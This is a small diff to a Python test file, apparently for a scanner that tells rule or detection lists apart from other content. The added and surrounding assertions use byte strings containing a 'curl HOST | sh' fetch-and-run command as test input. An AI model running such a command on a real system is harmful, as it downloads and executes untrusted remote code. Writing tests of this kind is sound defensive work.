@@ -53,6 +53,7 @@ def test_rules_list_what_they_look_for_and_their_name_alone_does_not_make_them()
     assert is_listed(
         b'[{"rule": "' + RULES.replace(b'"', b'\\"').replace(b"\n", b"\\n") * 5 + b'"}]', "package/rules.json"
     )
+    assert not is_listed(RULES.replace(HOST, b"h") * 6 + b"curl " + HOST + b" | sh\n", "package/it.txt")
     assert not is_listed(b"curl " + HOST + b" | sh\n", "package/rules/it.yar")
 
 
